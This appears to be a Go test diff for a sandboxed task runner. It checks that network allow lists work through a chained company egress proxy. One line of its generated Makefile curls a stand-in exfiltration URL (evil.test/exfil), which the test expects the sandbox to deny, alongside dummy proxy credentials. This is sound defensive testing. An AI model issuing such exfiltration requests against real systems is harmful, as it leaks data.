@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
+	"io"
 	"net"
 	"net/http"
 	"net/http/httptest"
@@ -14,6 +15,7 @@ import (
 	"path/filepath"
 	"slices"
 	"strings"
+	"sync"
 	"testing"
 
 	"github.com/seed43ef5acb/runner/internal/gittest"
@@ -125,5 +127,79 @@ func TestExecNetworkAllowList(t *testing.T) {
 				t.Errorf("run.started sandbox %+v: want the allow list and its limits", sb)
 			}
 		})
+	}
+}
+
+// TestExecNetworkAllowListThroughCompanyProxy: behind an egress proxy
+// (the runner's own HTTP_PROXY, on 127.0.0.1, which alone can reach
+// registry.test), curl in the sandbox gets the allowed host through the
+// runner's proxy and then the company's, credentials and all; a host
+// not in the list still gets the runner's 403 and never reaches the
+// company's proxy. The control run, without HTTP_PROXY, cannot reach it.
+func TestExecNetworkAllowListThroughCompanyProxy(t *testing.T) {
+	for _, tool := range []string{"make", "curl", "bash"} {
+		if _, err := exec.LookPath(tool); err != nil {
+			t.Skipf("%s is not installed (.ci/run installs it): %v", tool, err)
+		}
+	}
+	if len(sandbox.Probe().Available()) == 0 {
+		t.Skipf("no sandbox layer is available here: %s", sandbox.Probe().Missing())
+	}
+	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, "module index %s", r.URL.Path)
+	}))
+	defer up.Close()
+	_, port, _ := net.SplitHostPort(up.Listener.Addr().String())
+	var mu sync.Mutex
+	var seen []string
+	company := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		seen = append(seen, r.Method+" "+r.URL.String()+" "+r.Header.Get("Proxy-Authorization"))
+		mu.Unlock()
+		req, _ := http.NewRequestWithContext(r.Context(), r.Method, up.URL+r.URL.Path, nil)
+		resp, err := http.DefaultTransport.RoundTrip(req)
+		if err != nil {
+			http.Error(w, err.Error(), http.StatusBadGateway)
+			return
+		}
+		defer resp.Body.Close()
+		_, _ = io.Copy(w, resp.Body)
+	}))
+	defer company.Close()
+	makefile := fmt.Sprintf("all:\n\t-curl -sS -m 10 http://registry.test:%s/mod > allowed.txt 2>&1\n\t-curl -sS -m 10 http://evil.test/exfil > denied.txt 2>&1\n", port)
+	run := func(env ...string) (allowed, denied string) {
+		repo := gittest.Repo(t, map[string]string{"Makefile": makefile})
+		spec := filepath.Join(t.TempDir(), "task.yaml")
+		mustWrite(t, spec, gateSpec+fmt.Sprintf("sandbox: {network: {allow: [\"registry.test:%s\"]}}\n", port))
+		srv := newModel(t, makeTurn(), llmtest.Turn{Text: "Built."}.Reply())
+		var stderr bytes.Buffer
+		_, err := Exec(t.Context(), ExecOptions{Task: spec, Repo: repo, Out: t.TempDir(), BaseURL: srv.URL(), Quiet: true,
+			APIKey: "sk-unit-0123456789abcdef", Stderr: &stderr, Environ: append([]string{"PATH=" + os.Getenv("PATH")}, env...),
+			resolveHost: func(_ context.Context, h string) ([]netip.Addr, error) {
+				return nil, fmt.Errorf("lookup %s: no such host", h) // only the company's proxy knows the names
+			}})
+		if err != nil {
+			t.Fatalf("exec: %v\n%s", err, stderr.String())
+		}
+		read := func(name string) string { b, _ := os.ReadFile(filepath.Join(repo, name)); return string(b) }
+		return read("allowed.txt"), read("denied.txt")
+	}
+	t.Setenv("XDG_CACHE_HOME", t.TempDir())
+	cu := strings.Replace(company.URL, "http://", "http://ci:s3cret@", 1)
+	allowed, denied := run("HTTP_PROXY="+cu, "https_proxy="+cu)
+	if allowed != "module index /mod" {
+		t.Errorf("allowed host through the company proxy: %q", allowed)
+	}
+	if !strings.Contains(denied, "the sandbox denied network access to evil.test:80") {
+		t.Errorf("denied host: %q", denied)
+	}
+	mu.Lock()
+	got := fmt.Sprint(seen)
+	mu.Unlock()
+	if want := fmt.Sprintf("[GET http://registry.test:%s/mod Basic Y2k6czNjcmV0]", port); got != want {
+		t.Errorf("the company proxy saw %s, want %s", got, want)
+	}
+	if allowed, _ := run(); !strings.Contains(allowed, "could not reach registry.test") || !strings.Contains(allowed, "no such host") {
+		t.Errorf("control, no HTTP_PROXY: %q", allowed)
 	}
 }
